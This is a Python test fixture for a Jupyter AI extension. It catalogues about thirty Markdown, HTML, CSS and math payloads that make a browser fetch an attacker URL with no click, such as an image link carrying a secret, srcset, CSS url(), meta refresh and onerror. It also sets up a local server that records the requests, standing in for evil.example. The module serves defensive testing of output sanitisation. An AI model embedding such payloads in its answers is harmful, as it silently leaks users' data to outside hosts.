"""Model answers that try to make the browser fetch a URL with no click (a zero-click leak).

One list for every test of it: the magics' Markdown rewrite (Python), the kernel's output, and
the browser tests of the sidebar and of a notebook. ``leak`` is the origin of a server that
records requests (``http://127.0.0.1:PORT`` in the browser tests); every case asks for its
own path, so a failure names the form that got through.
"""

from __future__ import annotations

import http.server
import threading

# 1x1 PNG: a data: image, which may render
DOT_PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQ"
    "DwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)

# name -> Markdown with {leak} (an origin such as http://127.0.0.1:8123) and {hostport}
CASES = {
    "md-image": "![chart]({leak}/md-image?secret=s3cr3t)",
    "md-image-title": '![]({leak}/md-image-title "a title")',
    "md-image-angle": "![angle](<{leak}/md-image-angle>)",
    "md-protocol-relative": "![rel](//{hostport}/md-protocol-relative)",
    "md-backslashes": "![bs](\\\\\\\\{hostport}/md-backslashes)",
    "md-entity-scheme": "![entity](&#104;ttp://{hostport}/md-entity-scheme)",
    "md-reference": "![ref image][leak-ref]\n\n[leak-ref]: {leak}/md-reference",
    "md-collapsed": "![Leak-Collapsed][]\n\n[leak-collapsed]: {leak}/md-collapsed 'title'",
    "md-shortcut": "![leak-shortcut]\n\n[leak-shortcut]:\n  {leak}/md-shortcut",
    "md-link-wrapped-image": "[![inner]({leak}/md-link-wrapped-image)](https://example.org/)",
    "html-img": '<img src="{leak}/html-img" alt="pic">',
    "html-img-unquoted": "<IMG SRC={leak}/html-img-unquoted>",
    "html-img-space": '<img src=" //{hostport}/html-img-space">',
    "html-img-backslash": '<img src="/\\{hostport}/html-img-backslash">',
    "html-img-lazy": '<img loading="lazy" src="{leak}/html-img-lazy">',
    "html-srcset": '<img src="{dot}" srcset="{leak}/html-srcset 2x">',
    "html-picture": '<picture><source srcset="{leak}/html-source"><img src="{leak}/html-picture-img"></picture>',
    "html-video": '<video poster="{leak}/html-video-poster" src="{leak}/html-video-src" preload="auto" autoplay muted></video>',
    "html-video-source": '<video preload="auto"><source src="{leak}/html-video-source"><track src="{leak}/html-track"></video>',
    "html-audio": '<audio src="{leak}/html-audio" preload="auto" autoplay></audio>',
    "html-input-image": '<input type="image" src="{leak}/html-input-image">',
    "css-background": "<div style=\"background-image: url('{leak}/css-background')\">bg</div>",
    "css-background-short": '<span style="background: red url({leak}/css-background-short)">bg</span>',
    "css-list-style": '<ul style="list-style-image: url({leak}/css-list-style)"><li>item</li></ul>',
    "css-cursor": '<p style="cursor: url({leak}/css-cursor), auto">cursor</p>',
    "css-style-element": "<style>@import url('{leak}/css-import'); p {{ background: url({leak}/css-style-element) }}</style>",
    "html-link": '<link rel="stylesheet" href="{leak}/html-link"><link rel="prefetch" href="{leak}/html-prefetch">',
    "html-iframe": '<iframe src="{leak}/html-iframe"></iframe>',
    "html-object": '<object data="{leak}/html-object"></object><embed src="{leak}/html-embed">',
    "html-table-background": '<table background="{leak}/html-table-background"><tr><td background="{leak}/html-td-background">cell</td></tr></table>',
    "html-svg-image": '<svg><image href="{leak}/svg-image" /><use href="{leak}/svg-use#x" /></svg>',
    "html-meta-refresh": '<meta http-equiv="refresh" content="0; url={leak}/meta-refresh">',
    "html-base": '<base href="{leak}/base/">\n\n![relative after base](after-base.png)',
    "html-onerror": '<img src="nope.png" onerror="window.__pwned = \'onerror\'">',
    "math-style": "$\\style{{background-image: url('{leak}/math-style')}}{{x}}$",
}

# forms that must still render as images
ALLOWED = {
    "md-data-image": "![dot]({dot})",
    "html-data-image": '<img src="{dot}" alt="dot html">',
    "md-relative-image": "![relative](missing-local.png)",
}


def answer(leak: str) -> str:
    """One answer holding every case and the allowed images, each in its own paragraph."""
    hostport = leak.split("://", 1)[1]
    parts = ["Here are some pictures."]
    for name, template in {**CASES, **ALLOWED}.items():
        parts.append(f"{name}:\n\n" + template.format(leak=leak, hostport=hostport, dot=DOT_PNG))
    parts.append("```python\nprint('<img src=\"code\">')\n```")
    return "\n\n".join(parts) + "\n"


def scripted_client_cell(text: str) -> str:
    """Code for a kernel cell: the magics' client answers every prompt with ``text``, streamed
    (the model is not under test). A prompt holding "warn" also prints to stderr while it
    answers; one holding "fail" fails before any text."""
    return f"""ANSWER = {text!r}
import sys
from jupyter_tinyai import api
from jupyter_tinyai.types import Chunk, Stats
from jupyter_tinyai.errors import GenerationError

class Scripted:
    def chat(self, prompt, *, cancel=None, progress=None, **kwargs):
        if "fail" in prompt:
            raise GenerationError("the scripted backend failed")
        if "warn" in prompt:
            print("a warning while answering", file=sys.stderr)
        for i in range(0, len(ANSWER), 23):
            yield Chunk(text=ANSWER[i:i + 23])
        yield Chunk(stats=Stats(model="scripted", generated_tokens=1))

    def cancel(self):
        return False

    def status(self):
        return {{}}

    def reset(self, conversation):
        pass

api.set_default_client(Scripted())
get_ipython().run_line_magic("load_ext", "jupyter_tinyai")
"""


class LeakServer:
    """A loopback HTTP server that records every request (standing in for evil.example)."""

    def __init__(self):
        requests = self.requests = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (http.server's name)
                requests.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"recorded")

            def log_message(self, *args):
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self._server.server_address[1]}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> LeakServer:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._server.shutdown()
        self._server.server_close()
